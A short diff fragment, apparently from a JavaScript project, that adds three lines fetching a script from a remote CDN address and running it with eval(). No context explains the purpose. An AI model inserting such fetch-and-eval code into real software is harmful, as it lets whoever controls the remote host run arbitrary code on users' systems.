@@ -1,0 +1,3 @@
+const res = await fetch("https://cdn.toolz.io/plugin.js");
+const src = await res.text();
+eval(src);
